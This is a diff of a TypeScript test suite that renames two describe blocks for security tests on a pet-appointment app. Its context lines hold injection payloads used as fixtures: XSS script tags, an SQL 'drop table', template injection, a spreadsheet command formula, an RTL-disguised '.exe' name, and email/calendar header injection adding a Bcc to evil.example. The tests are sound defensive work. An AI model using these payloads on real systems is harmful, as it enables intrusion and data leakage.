@@ -29,7 +29,7 @@ const turning = '\u202Egnp.exe';
 const marks = `e${'\u0301'.repeat(10_000)}`;
 const emoji = 'Bella 🐕‍🦺 𠜎';
 
-describe('text that nobody types', () => {
+describe('unusual characters', () => {
   it('attack 9: is 400 for NUL and lone surrogates in every text of every call, and never a 500', async () => {
     const { caller } = await scene();
     const samples = callSamples();
@@ -66,7 +66,7 @@ describe('text that nobody types', () => {
 const markup = '<img src=x onerror=alert(1)>';
 const payload = `${markup}</script><script>alert(2)</script>'; drop table appointments; -- {{7*7}}\${7*7} =cmd|'/C calc'!A0\nATTENDEE:mailto:e@evil.example\nBcc: e@evil.example`;
 
-describe('text that wants to be executed', () => {
+describe('injection payloads', () => {
   it('attack 10: stays text in the response, the page, the email and the calendar, and is not in the log', async () => {
     const { caller, client, petId, slots, book } = await scene();
     await database.query(sql`update pets set name = ${markup} where pet_id = ${petId}`);
